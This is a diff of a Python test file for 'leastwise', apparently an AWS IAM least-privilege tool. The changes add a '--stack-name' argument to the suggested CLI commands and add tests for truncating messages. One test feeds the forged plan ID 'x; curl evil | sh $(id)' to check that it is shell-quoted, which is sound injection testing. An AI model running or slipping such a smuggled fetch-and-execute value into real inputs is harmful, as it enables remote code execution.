@@ -19,6 +19,7 @@ from shared.model.notification import MAX_MESSAGE_BYTES, MAX_SUBJECT, Notificati
 from shared.model.plan import Compliance, Mode, ReasonCode, RegretResponse, Strategy
 from tests.builders import ACCOUNT, ANA, NOW, PLAN, every_event
 
+WHERE = "--stack-name leastwise --region eu-west-1"
 PLACE = Place("leastwise", "eu-west-1", "/leastwise/mode", "/leastwise/safeguards")
 EVENTS = {event.type_name(): event for event in every_event()}
 CHAIN = f"{ACCOUNT}/{ANA.identity_id}"
@@ -88,7 +89,7 @@ def test_a_change_is_told_with_what_why_effect_and_how_to_undo_it() -> None:
         "Effect: Privilege Creep Index 87 to 12",
         "  s3: 118 of 130 taken, 12 kept\n  iam: 94 of 100 taken, 6 kept\n",
         f"Policies in force: arn:aws:iam::{ACCOUNT}:policy/leastwise/p\n",
-        "Undo it, which gives everything back as it was:\n  leastwise plan rollback plan-1 --region eu-west-1\n",
+        f"Undo it, which gives everything back as it was:\n  leastwise plan rollback plan-1 {WHERE}\n",
     ):
         assert part in text
 
@@ -99,7 +100,7 @@ def test_an_event_of_a_version_without_services_is_told_without_them() -> None:
 
 def test_a_waiting_plan_is_told_with_how_to_approve_it_and_until_when() -> None:
     text = told(EVENTS["PlanProposed"]).text
-    assert "Approve it:\n  leastwise plan approve plan-1 --region eu-west-1\n" in text
+    assert "Approve it:\n  leastwise plan approve plan-1 --stack-name leastwise --region eu-west-1\n" in text
     assert "AWS Config, Rules, leastwise-privilege-creep, choose the AWS::IAM::User, Remediate" in text
     assert "can be approved until 2026-03-01 13:00 UTC" in text
     assert "  s3: 118 of 130 taken, 12 kept\n" in text
@@ -143,8 +144,8 @@ def test_a_regret_is_told_with_what_was_refused_what_comes_of_it_and_how_to_give
         "it wanted s3:GetObject and lacks s3:GetObject, kms:Decrypt",
         "refused at 2026-03-01 11:57 UTC or after, changed at 2026-02-27 12:00 UTC",
         what_comes,
-        "leastwise plan restore plan-1 --action s3:GetObject --action kms:Decrypt --region eu-west-1",
-        "leastwise plan rollback plan-1 --region eu-west-1",
+        f"leastwise plan restore plan-1 --action s3:GetObject --action kms:Decrypt {WHERE}",
+        f"leastwise plan rollback plan-1 {WHERE}",
     ):
         assert part in notification.text
 
@@ -220,7 +221,7 @@ def test_that_the_safeguards_were_changed_is_told() -> None:
 def test_a_broken_trail_is_told_with_the_entry_and_how_to_verify_it() -> None:
     text = told(EVENTS["AuditTrailBroken"]).text
     assert f"chain {CHAIN}, entry 17, found to be edited" in text
-    assert "leastwise audit verify --region eu-west-1" in text
+    assert "leastwise audit verify --stack-name leastwise --region eu-west-1" in text
 
 
 @pytest.mark.parametrize(
@@ -292,7 +293,21 @@ def test_a_long_subject_is_cut_and_says_so() -> None:
 def test_what_would_run_in_a_shell_is_quoted() -> None:
     forged = EVENTS["PolicyApplied"].model_copy(update={"plan_id": "x; curl evil | sh $(id)"})
     (line,) = (line for line in told(forged).text.splitlines() if "rollback" in line)
-    assert shlex.split(line) == ["leastwise", "plan", "rollback", "x; curl evil | sh $(id)", "--region", "eu-west-1"]
+    assert shlex.split(line) == ["leastwise", "plan", "rollback", "x; curl evil | sh $(id)", *WHERE.split()]
+
+
+@pytest.mark.parametrize("text", ["x" * 600_000, "\u200b\u00e9" * 200_000], ids=["ASCII", "escaped"])
+def test_a_text_that_is_too_long_by_itself_is_cut_and_says_so(text: str) -> None:
+    message = told(EVENTS["PolicyApplied"]).model_copy(update={"text": text}).message_structure()
+    assert MAX_MESSAGE_BYTES / 4 < len(message) <= MAX_MESSAGE_BYTES
+    assert json.loads(message)["email"].endswith("(the rest is left out)")
+
+
+def test_a_text_for_code_waits_for_a_person_in_mode_auto_too() -> None:
+    proposed = EVENTS["PlanProposed"].model_copy(
+        update={"mode": Mode.AUTO, "strategy": Strategy.PATCH, "applies_from": None}
+    )
+    assert told(proposed).subject.startswith("Waiting for a change in code")
 
 
 @settings(deadline=None, max_examples=40)
